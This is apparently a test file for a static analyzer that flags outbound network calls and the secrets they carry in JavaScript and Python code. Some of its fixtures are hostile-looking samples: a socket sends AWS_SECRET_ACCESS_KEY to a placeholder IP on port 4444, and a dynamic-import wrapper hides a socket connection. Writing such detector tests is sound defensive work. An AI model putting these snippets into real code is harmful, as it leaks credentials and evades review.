"""What flows into a request: a response does not carry what its request sent."""

from __future__ import annotations

from egress.analyzers.javascript import JavaScriptAnalyzer
from egress.model import FindingKind, SourceFile

CODE = b"""async function f(id) {
  const token = process.env.SERVICE_TOKEN;
  const r = await fetch(`https://api.example.com/items/${id}`, { headers: { "X-Token": token } });
  const body = await r.json();
  const next = await fetch(body.location);
  return next.text();
}
module.exports = f;
"""


def test_a_url_read_from_a_response_is_not_the_token_the_request_sent() -> None:
    analysis = JavaScriptAnalyzer().analyze(SourceFile("a.js", CODE))
    got = [(f.api, f.line, tuple(d.text for d in f.destinations), f.data_sources)
           for f in analysis.findings if f.kind is FindingKind.NETWORK]
    assert got == [("fetch", 3, ("https://api.example.com/items/<dynamic>",), ("env SERVICE_TOKEN",)),
                   ("fetch", 5, ("<dynamic>",), ())]


def test_a_local_function_named_fetch_still_passes_its_arguments_on() -> None:
    code = (b"const https = require('https');\nfunction fetch(x) { return x; }\n"
            b"https.get(fetch(process.env.HOME_URL));\n")
    [net] = [f for f in JavaScriptAnalyzer().analyze(SourceFile("b.js", code)).findings
             if f.kind is FindingKind.NETWORK]
    assert (net.api, net.line, net.data_sources) == ("https.get", 3, ("env HOME_URL",))


def test_what_is_sent_on_a_socket_from_create_connection() -> None:
    from egress.analyzers.python import PythonAnalyzer

    code = (b"import os, socket\ndef go():\n    c = socket.create_connection(('198.51.100.7', 4444))\n"
            b"    c.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n"
            b"def quiet():\n    d = socket.create_connection(('198.51.100.8', 80))\n    d.close()\n")
    got = [(f.api, f.line, tuple(x.text for x in f.destinations), f.data_sources)
           for f in PythonAnalyzer().analyze(SourceFile("cc.py", code)).findings]
    assert got == [("socket.create_connection", 3, ("198.51.100.7:4444",), ("env AWS_SECRET_ACCESS_KEY",)),
                   ("socket.create_connection", 6, ("198.51.100.8:80",), ())]


def test_asyncio_open_connection_has_its_destination() -> None:
    from egress.analyzers.python import PythonAnalyzer

    code = b"import asyncio\nasync def f():\n    r, w = await asyncio.open_connection('198.51.100.88', 8080)\n"
    [f] = PythonAnalyzer().analyze(SourceFile("a.py", code)).findings
    assert (f.api, f.line, [d.text for d in f.destinations]) == ("asyncio.open_connection", 3, ["198.51.100.88:8080"])


def test_a_python_loader_wrapper_is_read_at_its_calls() -> None:
    from egress.analyzers.python import PythonAnalyzer

    code = (b"import importlib\ndef imp(n):\n    return __import__(n)\ndef load(m):\n"
            b"    return importlib.import_module(m)\n"
            b"imp('socket').create_connection(('198.51.100.201', 4444))\n"
            b"load('urllib.request').urlopen('http://x.example/a')\n")
    got = [(f.kind.value, f.api, f.line, tuple(d.text for d in f.destinations))
           for f in PythonAnalyzer().analyze(SourceFile("w.py", code)).findings]
    assert [g for g in got if g[0] == "network"] == [
        ("network", "socket.create_connection", 6, ("198.51.100.201:4444",)),
        ("network", "urllib.request.urlopen", 7, ("http://x.example/a",))]
    # the wrapper's own body stays a dynamic import: other callers may pass anything
    assert [(g[1], g[2]) for g in got if g[0] == "dynamicRequire"] == [("__import__", 3), ("importlib.import_module", 5)]
